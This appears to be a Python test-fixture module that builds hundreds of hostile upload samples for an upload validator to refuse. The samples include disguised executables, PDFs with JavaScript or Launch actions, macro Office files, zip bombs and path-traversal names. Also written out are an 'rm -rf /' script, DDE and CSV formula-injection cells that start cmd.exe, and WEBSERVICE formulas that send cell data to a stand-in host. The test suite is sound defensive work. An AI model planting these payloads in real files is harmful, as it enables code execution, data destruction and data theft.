"""Six hundred files that somebody could send to do harm, made by program; each with the name it comes under."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.casework.documents import samples as s

PROGRAMS = {
    "windows": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",
    "linux": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
    "mac": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40,
    "script": b"#!/bin/sh\nrm -rf /\n\x00",
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "rich text": b"{\\rtf1\\object\\objdata 0105}",
    "page": b"<html><script>alert(1)</script></html>\x00",
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\x00",
    "shortcut": b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60,
    "help": b"ITSF\x03\x00\x00\x00" + b"\x00" * 60,
    "cabinet": b"MSCF\x00\x00\x00\x00" + b"\x00" * 60,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60,
    "seven": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60,
    "image disk": b"\x00" * 100 + b"CD001",
}
ENDINGS = tuple(sorted({name.rpartition(".")[2] for name in s.sound()}))
ACTIVE = (
    b"/S /JavaScript /JS (app.alert(1))", b"/S /Launch /F (cmd.exe)",
    b"/Subtype /RichMedia", b"/S /Rendition", b"/S /SubmitForm", b"/S /ImportData", b"/S /GoToE", b"/XFA [1 0 R]",
)  # fmt: skip
EMBEDDED = (
    "vbaProject_DOT_bin", "activeX__activeX1_DOT_bin", "embeddings__oleObject1_DOT_bin", "media__a_DOT_exe",
    "media__a_DOT_js", "embeddings__a_DOT_xlsm", "embeddings__a_DOT_docx", "embeddings__a_DOT_zip",
)  # fmt: skip
BAD_NAMES = (
    "", ".", "..", "...", "/", "\\", "pdf", ".pdf", " .pdf", "\u202e.pdf", "\x00.pdf", "a.exe", "a.pdf.exe", "a.pdf.",
    "a.pdf ", "invoice\u202efdp.exe", "a.p\u200bdf\u202e.js", "../../etc/passwd", "..\\..\\boot.ini", "a.pdf/",
    "a.html", "a.svg", "a.xhtml", "a.docm", "a.xlsm", "a.zip", "a.jar", "a.lnk", "a.pdf;.exe", "a.", "\ud800.exe",
    "a" * 5000, "a.pdf\x00.exe", "a.pdf" * 2000 + ".com", "\n", "\r\n.pdf", "a.pdf\r\nX-Evil: 1",
    "CON", "\uff0epdf", "a.ｐｄｆ", "a.pdf:stream.exe",
)  # fmt: skip


def wrong_content() -> Iterator[tuple[str, bytes]]:
    """A program, or any other type, under the name of a good one."""
    for ending in ENDINGS:
        for content in PROGRAMS.values():
            yield f"report.{ending}", content
    good = s.sound()
    kin = {"jpg": "jpeg", "tif": "tiff", "csv": "txt"}
    for name, content in good.items():
        theirs = name.rpartition(".")[2]
        for ending in ENDINGS:
            if kin.get(ending, ending) != kin.get(theirs, theirs):
                yield f"other.{ending}", content


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Two files in one."""
    behind = s.archive({"evil.class": PROGRAMS["java"]})
    for name, content in s.sound().items():
        if name.rpartition(".")[2] not in ("txt", "csv"):
            yield name, content + behind
            yield name, PROGRAMS["windows"] + content
    yield "a.png", s.png(tail=b"<script>alert(1)</script>")
    yield "a.gif", b"GIF89a/*\x01\x00<script>" + s.gif()
    yield "a.jpg", s.jpeg() + s.pdf()
    yield "a.docx", s.office() + b"trailing"
    yield "a.docx", s.office(comment=b"remark")


def active_pdfs() -> Iterator[tuple[str, bytes]]:
    """Every active name: plain, escaped, packed, escaped and packed, behind another end."""
    for what in ACTIVE:
        first = what.index(b"/", 1) if what.count(b"/") > 1 else 0
        letter = what[first + 1 : first + 2]
        escaped = what[: first + 1] + b"#" + letter.hex().encode() + what[first + 2 :]
        for form in (what, escaped):
            yield "a.pdf", s.pdf(b"3 0 obj\n<<" + form + b">>\nendobj\n")
            yield "a.pdf", s.pdf(s.packed(b"3 0 <<" + form + b">>"))
            yield "a.pdf", s.pdf(s.packed(b"3 0 <<" + form + b">>", kind=b"/Type /Obj#53tm"))
            yield "a.pdf", s.pdf() + b"3 0 obj\n<<" + form + b">>\nendobj\n%%EOF"
    yield "a.pdf", s.pdf(b"3 0 obj\n<</Encrypt 4 0 R>>\nendobj\n")
    yield "a.pdf", s.pdf(b"3 0 obj\n<</Type /ObjStm /Filter /LZWDecode>>\nstream\n\x80\x0b\nendstream\nendobj\n")
    yield "a.pdf", s.pdf(s.packed(b"\x00" * 30_000_000))
    yield "a.pdf", b"%PDF-1.7\n" + b"stream\n" * 30_000 + b"%%EOF"
    yield "a.pdf", b"\n" + s.pdf()
    yield "a.pdf", s.pdf()[:-8]


def macro_files() -> Iterator[tuple[str, bytes]]:
    """Office files with macros, controls, embedded objects, programs, parts from outside."""
    for ending, (part, _) in s.MAINS.items():
        folder = part.split("/")[0]
        yield (
            f"a.{ending}",
            s.office(ending, types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        )
        yield (
            f"a.{ending}",
            s.office(ending, types=b'<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
        )
        for extra in EMBEDDED:
            yield f"a.{ending}", s.office(ending, **{f"{folder}__{extra}": b"anything"})
        for content in PROGRAMS.values():
            if content.startswith((b"MZ", b"\x7fELF", b"\xcf", b"\xca", b"#!", b"\xd0")):
                yield f"a.{ending}", s.office(ending, **{f"{folder}__media__image1_DOT_png": content})
        for kind in ("attachedTemplate", "oleObject", "frame", "externalLinkPath", "image"):
            for mode in (b"External", b"E&#120;ternal"):
                relation = (
                    b'<Relationship Type="x/relationships/'
                    + kind.encode()
                    + b'" Target="http://e/" TargetMode="'
                    + mode
                    + b'"/>'
                )
                yield f"a.{ending}", s.office(ending, **{f"{folder}___rels__a_DOT_rels": relation})
        yield f"a.{ending}", s.office(ending, **{f"{folder}___rels__a_DOT_rels": "<Relationships/>".encode("utf-16")})
        yield f"a.{ending}", s.office(ending, **{f"{folder}___rels__a_DOT_rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"})
        nested = s.office("xlsx", xl__vbaProject_DOT_bin=b"x")
        yield f"a.{ending}", s.office(ending, **{f"{folder}__embeddings__book_DOT_xlsx": nested})
    for ending in ("odt", "ods", "odp"):
        yield f"a.{ending}", s.open_document(ending, Basic__Standard__Module1_DOT_xml=b"x")
        yield f"a.{ending}", s.open_document(ending, Scripts__python__a_DOT_py=b"x")
        yield f"a.{ending}", s.open_document(ending, **{"Object 1": PROGRAMS["old office"]})


def broken_archives() -> Iterator[tuple[str, bytes]]:
    """Bombs, wanderers, locked and lying archives."""
    bomb = s.archive({"[Content_Types].xml": b"x", "word/document.xml": b"\x00" * 40_000_000})
    for ending in ("docx", "xlsx", "odt"):
        yield f"bomb.{ending}", bomb
        for name in ("../../evil.xml", "/etc/evil.xml", "..\\evil.xml", "C:\\evil.xml", "a/../../b.xml"):
            yield f"a.{ending}", s.office("docx", **{name: b"x"})
        whole = s.office("docx") if ending != "odt" else s.open_document()
        for cut in (5, 30, 60, len(whole) // 2, len(whole) - 1):
            yield f"a.{ending}", whole[:cut]
        yield f"a.{ending}", whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as file:
        for name in ("[Content_Types].xml", "word/document.xml", "WORD/document.xml"):
            file.writestr(name, b'<Override ContentType="wordprocessingml.document.main+xml"/>')
    yield "a.docx", twice.getvalue()
    yield "a.docx", s.archive({f"word/{number}.xml": b"" for number in range(6000)})


def broken_pictures() -> Iterator[tuple[str, bytes]]:
    """Impossible sizes, cut-off files, riders."""
    for width, height in ((0, 1), (1, 0), (30_001, 1), (20_000, 20_000), (2**31, 2**31), (2**32 - 1, 1)):
        yield "a.png", s.png(width, height)
    yield "a.jpg", s.jpeg(0, 0)
    for name, content in s.sound().items():
        if name.rpartition(".")[2] in ("png", "jpg", "gif", "tif", "webp"):
            for cut in (1, 4, 11, 20):
                yield name, content[:cut]
    yield "a.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 2**31, b"IHDR") + b"\x00" * 40
    yield "a.tif", b"II*\x00" + struct.pack("<I", 2**32 - 1) + b"\x00" * 10


def broken_texts() -> Iterator[tuple[str, bytes]]:
    """What only calls itself text."""
    for ending in ("txt", "csv"):
        yield f"a.{ending}", b""
        for byte in (*range(9), 0x0B, *range(0x0E, 0x20), 0x7F):
            yield f"a.{ending}", b"text" + bytes([byte]) + b"text"
        for byte in (0x81, 0x8D, 0x8F, 0x90, 0x9D):  # undefined in the Western set, and no UTF-8
            yield f"a.{ending}", b"text" + bytes([byte])
        yield f"a.{ending}", "text".encode("utf-16")
        yield f"a.{ending}", zlib.compress(b"text" * 100)


def noise(count: int) -> Iterator[tuple[str, bytes]]:
    """Good files with bytes changed at random: taken in or refused, never an error."""
    chance = random.Random(7)
    good = list(s.sound().items())
    for _ in range(count):
        name, content = chance.choice(good)
        changed = bytearray(content)
        for _ in range(chance.randint(1, 8)):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        yield name, bytes(changed)


def must_be_refused() -> list[tuple[str, bytes]]:
    """Everything that may never be taken in."""
    named = [(name, s.pdf()) for name in BAD_NAMES if not harmless_once_cleaned(name)]
    empty = [(f"a.{ending}", b"") for ending in ENDINGS]
    parts = (
        wrong_content(),
        polyglots(),
        active_pdfs(),
        macro_files(),
        broken_archives(),
        broken_pictures(),
        broken_texts(),
    )
    return [*named, *empty, *(one for part in parts for one in part)]


def harmless_once_cleaned(name: str) -> bool:
    """Names that mean well after cleaning: what is left ends in .pdf."""
    return name in ("a.pdf.", "a.pdf ")


HYPERLINK = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
TEMPLATE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
SCRIPT = b"urn:oasis:names:tc:opendocument:xmlns:script:1.0"


def _relation(kind: bytes, target: bytes, more: bytes = b'TargetMode="External"') -> bytes:
    relation = b'<Relationship Id="r" Type="%s" Target="%s" %s/>' % (kind, target, more)
    return s.office(word___rels__settings_DOT_xml_DOT_rels=b"<Relationships>" + relation + b"</Relationships>")


def passed_once() -> list[tuple[str, bytes]]:
    """What came past checks that matched text instead of reading it."""
    script = b"3 0 obj\n<</Note (an obj) /OpenAction <</S /Java#53cript /J#53 (app.alert\\(1\\))>>>>\nendobj\n"
    field = b'<w:document xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:document>'
    listener = b'<office:document-content xmlns:office="o" xmlns:s="%s"><s:event-listener/></office:document-content>'
    picture = (
        b'<o:document-content xmlns:o="o" xmlns:x="x"><o:image x:href="http://e.test/a.png"/></o:document-content>'
    )
    program = b"MZ\x90\x00\nendstream\nendobj\n"
    named = b"3 0 obj\n<</Type /Filespec /EF <</F 4 0 R>>>>\nendobj\n4 0 obj\n<</Length 4>>\nstream\n" + program
    return [
        ("a.pdf", s.pdf(b"3 0 obj\n<</Type /EmbeddedFile /Length 4>>\nstream\n" + program)),
        ("a.pdf", s.pdf(named)),
        ("a.pdf", s.pdf(s.packed(b"1 0 " + script, kind=b"/Note (an obj) /Type /ObjStm /N 1 /First 4"))),
        ("a.pdf", s.pdf(script)),
        ("a.docx", _relation(TEMPLATE, b"http://e.test/a.dotm", b'Note="&gt;" TargetMode="External"')),
        ("a.docx", _relation(TEMPLATE, b"http://e.test/a.dotm?relationships/hyperlink'")),
        ("a.docx", _relation(TEMPLATE, b"http://e.test/a.dotm", b'TargetMode = "&#69;xternal"')),
        ("a.docx", _relation(TEMPLATE, b"\\\\e.test\\a.dotm", b"")),
        ("a.docx", _relation(b"x/relationships/hyperlink", b"http://e.test/")),
        ("a.docx", s.office(word__document_DOT_xml=field)),
        ("a.odt", s.open_document(content_DOT_xml=listener % SCRIPT)),
        ("a.odt", s.open_document(content_DOT_xml=picture)),
        ("a.odt", s.open_document(styles_DOT_xml=listener % SCRIPT)),
        ("a.ods", s.open_document("ods", content_DOT_xml=_cell(b'of:=WEBSERVICE("http://e.test/"&amp;[.A2])'))),
        ("a.ods", s.open_document("ods", content_DOT_xml=_cell(b'of:=DDE("soffice";"a.ods";"A1")'))),
    ]


TABLE = b"urn:oasis:names:tc:opendocument:xmlns:table:1.0"


def _cell(formula: bytes) -> bytes:
    """A worksheet of an OpenDocument file with one formula."""
    return b"<t:table-cell xmlns:t='%s' t:formula='%s'/>" % (TABLE, formula)


RELATIONS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _field(code: bytes) -> bytes:
    return b'<w:document xmlns:w="%s"><w:instrText>%s</w:instrText></w:document>' % (WORD, code)


def _chunk(ending: str, content: bytes) -> bytes:
    relation = b'<Relationships><Relationship Id="r" Type="%saFChunk" Target="a"/></Relationships>' % RELATIONS
    return s.office(**{"word___rels__document_DOT_xml_DOT_rels": relation, f"word__chunk_DOT_{ending}": content})


def passed_a_second_time() -> list[tuple[str, bytes]]:
    """What came past the parsers: names that stand elsewhere, and parts that lie where nobody looked."""
    carried = b"4 0 obj\n<</Length 4>>\nstream\nMZ\x90\x00\nendstream\nendobj\n"
    inner = b"5 0 6 42 <</Type /Action /S 6 0 R /F (cmd.exe)>>      /Launch"
    pack = (
        b"7 0 obj\n<</Type 8 0 R /N 2 /First 9 /Filter /ASCIIHexDecode /Length %d>>\nstream\n%s>\nendstream\nendobj\n"
    )
    external = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    part = b'<Override PartName="/x/a.xml" ContentType="%s"/>' % external
    elsewhere = s.office(w__more_DOT_xml=_field(b"DDEAUTO c:\\x"))
    return [
        ("a.pdf", s.pdf(b"3 0 obj\n<</Type /Filespec /EF 5 0 R>>\nendobj\n5 0 obj\n<</F 4 0 R>>\nendobj\n" + carried)),
        ("a.pdf", s.pdf(pack % (2 * len(inner) + 1, inner.hex().encode()) + b"8 0 obj\n/ObjStm\nendobj\n")),
        ("a.pdf", s.pdf(b"3 0 obj\n<</S 4 0 R>>\nendobj\n4 0 obj\n/Laun#63h\nendobj\n")),
        ("a.pdf", s.pdf(b"3 0 obj\n<</S /GoToR /F (\\\\\\\\e.test\\\\a.pdf)>>\nendobj\n")),
        ("a.pdf", s.pdf(b"3 0 obj\n<</OpenAction <</S /URI /URI (http://e.test)>>>>\nendobj\n")),
        ("a.docx", elsewhere),
        ("a.docx", s.office(word__document_DOT_xml=_field(b'INCLUDEPICTURE "http://e.test/a.png" \\d'))),
        ("a.docx", _chunk("rtf", b"{\\rtf1\\objupdate}")),
        ("a.docx", _chunk("mht", b"MIME-Version: 1.0\n")),
        ("a.docx", s.office(word__chunk_DOT_rtf=b"{\\rtf1\\objupdate}")),
        ("a.xlsx", s.office("xlsx", types=part, x__a_DOT_xml=b"<externalLink><ddeLink/></externalLink>")),
        (
            "a.odt",
            s.open_document(
                meta_DOT_xml=b'<m:meta xmlns:m="m" xmlns:x="x"><m:auto-reload x:href="http://e"/></m:meta>'
            ),
        ),
    ]


def _nested(name: bytes, inner: bytes, after: bytes) -> bytes:
    """A field with another one inside its code."""
    step = b'<w:fldChar w:fldCharType="%s"/>'
    code = b"<w:instrText>%s</w:instrText>"
    parts = (step % b"begin", code % name, step % b"begin", code % inner, step % b"end", code % after, step % b"end")
    return s.office(word__document_DOT_xml=b'<w:document xmlns:w="%s">%s</w:document>' % (WORD, b"".join(parts)))


def _formula(code: bytes, around: bytes = b"<c><f>%s</f></c>") -> bytes:
    return s.office("xlsx", xl__worksheets__sheet1_DOT_xml=b"<worksheet>" + around % code + b"</worksheet>")


def put_together() -> list[tuple[str, bytes]]:
    """Fields whose name another field spells, and formulas that fetch or start something."""
    return [
        ("a.docx", _nested(b" ", b"QUOTE 68 68 69 65 85 84 79", b' c:\\cmd.exe "/k calc"')),
        ("a.docx", _nested(b"DD", b"QUOTE 69 65 85 84 79", b" c:\\cmd.exe")),
        ("a.docx", _nested(b" INCLUDEPICTURE ", b"QUOTE 104 116 116 112", b" ")),
        ("a.xlsx", _formula(b'_xlfn.WEBSERVICE("http://e.test/"&amp;A2)')),
        ("a.xlsx", _formula(b'_xlfn.IMAGE ("http://e.test/a.png")')),
        ("a.xlsx", _formula(b"cmd|'/c calc'!A0")),
        ("a.xlsx", _formula(b"cmd&#124;'/c calc'!A0")),
        ("a.xlsx", _formula(b"WEBSERVICE(A1)", b"<definedName>%s</definedName>")),
    ]


def tables() -> list[tuple[str, bytes]]:
    """Cells that a spreadsheet would run to start a program or to fetch something."""
    cells = (
        b"=cmd|'/c calc'!A1",
        b"+cmd|'/c calc'!A1",
        b"-2+3+cmd|' /C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        b'=WEBSERVICE("http://e.test/"&A2)',
        b'=HYPERLINK("http://e.test/?"&A1,"Click")',
        b"=IMPORTXML(A1,A2)",
    )
    quoted = [b'"%s"' % cell.replace(b'"', b'""') for cell in cells]
    lines = [b"name;value\nA;%s\n" % cell for cell in (*cells, *quoted)]
    lines += [b"name,value\nA,%s\n" % cell for cell in quoted]
    lines += [
        b"sep=^\na^=cmd|'/c calc'!A1\n",
        b"\xef\xbb\xbf=cmd|'/c a,b'!A1;2\n",
        "＝cmd|'/c calc'!A1\n".encode(),
        b"A,  =cmd|'/c calc'!A1\n",
    ]
    return [("a.csv", line) for line in lines]


def harmless_tables() -> list[tuple[str, bytes]]:
    """What looks a little like it, and is what people write."""
    return [
        ("a.csv", b"-5;-1,25;+32 2 555 55 55;=SUM(A1:A9);@home;- first point\n"),
        ("a.csv", b"-5,(me)|now!\nimage (1),see|this!\n"),
        ("a.csv", b"name;note\nHYPERLINK(x);it said =cmd|'/c calc'!A1 in the mail\n"),
        ("a.txt", b"=cmd|'/c calc'!A1\n"),
    ]


def harmless_codes() -> list[tuple[str, bytes]]:
    """What looks a little like it, and is what people write."""
    return [
        ("a.docx", _nested(b" IF ", b"MERGEFIELD a", b' = "1" "yes" "no" ')),
        ("a.docx", _nested(b"=", b"PAGE", b"+1")),
        ("a.xlsx", _formula(b"'Call (2)'!A1 &amp; &quot;a|b!c&quot;")),
        ("a.xlsx", _formula(b"cmd|'/c calc'!A0", b"<c><is><t>%s</t></is></c>")),
    ]


def costly() -> Iterator[tuple[str, bytes]]:
    """Small files that made a request work for seconds: archives in archives, streams in streams, endless escapes."""
    inner = s.office("xlsx", **{f"xl__a{number}_DOT_xml": b"" for number in range(1500)})
    yield "a.docx", s.office(**{f"word__embeddings__b{number}_DOT_xlsx": inner for number in range(8)})
    yield "a.pdf", s.pdf(*(s.packed(b"#41" * 1_300_000) for _ in range(400)))
    yield "a.pdf", s.pdf(b"\n".join(b"stream\n" + zlib.compress(bytes(4_000_000)) for _ in range(800)))
    nested = s.eml()
    for _ in range(12):
        nested = s.eml({"a.eml": nested})
    yield "a.eml", nested


def harmless() -> list[tuple[str, bytes]]:
    """What looks alike and is taken in."""
    return [("a.docx", _relation(HYPERLINK, b"https://e.test/"))]
